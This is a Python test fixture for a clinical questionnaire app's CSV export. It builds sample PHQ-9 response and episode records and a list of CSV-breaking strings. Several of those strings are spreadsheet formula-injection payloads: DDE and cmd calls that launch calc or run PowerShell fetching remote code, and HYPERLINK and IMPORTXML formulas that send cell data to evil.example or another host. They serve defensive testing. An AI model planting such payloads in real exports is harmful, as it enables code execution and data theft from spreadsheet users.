"""Hand-made export records and a corpus of CSV-breaking strings, shared by the export tests."""

from __future__ import annotations

import uuid
from datetime import UTC, date, datetime

from alliance_desktop.core.export_model import (
    EpisodeExport,
    ItemValue,
    ResponseExport,
    ScaleValue,
    SessionExport,
    SessionFlags,
)

#: Strings that break naive CSV writers or run as formulas in a spreadsheet (RELIABILITY row 22).
PAYLOADS: tuple[str, ...] = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=x",
    "\r=x",
    "\x00=x",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "=cmd|'/C powershell IEX(wget evil)'!A0",
    "+1",
    "-1",
    "-",
    "=",
    "@",
    "'=already quoted",
    '"quoted"',
    'say "hi", then go',
    "a,b,c",
    "line one\nline two",
    "line one\r\nline two",
    "trailing newline\n",
    "\n=leading newline",
    "nul\x00inside",
    "\u202eRTL override gpj.exe",
    "مرحبا بالعالم",
    "שלום",
    "👩‍👩‍👧 family",
    "e\u0301 combining",
    "tab\tinside",
    " =space first",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
    "0x41",
    "1e5",
    ";semicolon;",
    "",
)

START = datetime(2025, 9, 1, 9, 0, tzinfo=UTC)


def response(number: int, *, instrument: str = "phq9", total: float | None = 12.0, comment: str | None = None,
             status: str = "completed", reason: str | None = None, counts: bool = True,
             answers: tuple[ItemValue, ...] = (), subscales: dict[str, float | None] | None = None) -> ResponseExport:
    scores = [ScaleValue("total", total, total is not None, None, f"{instrument}@1.0.0")]
    scores += [ScaleValue(k, v, v is not None, None, f"{instrument}@1.0.0") for k, v in (subscales or {}).items()]
    return ResponseExport(
        id=uuid.uuid4(), submission_id=uuid.uuid4(), session_id=uuid.uuid4(), session_number=number,
        instrument_id=instrument, instrument_version="1.0.0", language="en", licence_id="lic", respondent_role="client",
        mode="kiosk", status=status, status_reason=reason, amends_id=None, started_at=START, completed_at=START,
        comment=comment, scores=tuple(scores), answers=answers or (ItemValue("1", 2.0, None, None),
                                                                    ItemValue("2", -3.0, None, None)),
        counts=counts,
    )


def episode(pseudonym: str, responses: list[ResponseExport], *, therapist: str = "tara",
            study_arm: str | None = None) -> EpisodeExport:
    numbers = sorted({r.session_number for r in responses} | {1})
    sessions = tuple(SessionExport(uuid.uuid4(), n, date(2025, 9, n % 28 + 1), "held",
                                   flags=SessionFlags(colour="yellow", change_from_intake=-3.0,
                                                      reliable_change="none", clinical=True))
                     for n in numbers)
    return EpisodeExport(uuid.uuid4(), uuid.uuid4(), pseudonym, therapist, date(2025, 9, 1), None, study_arm,
                         sessions=sessions, responses=tuple(responses), outcome_instrument="phq9")
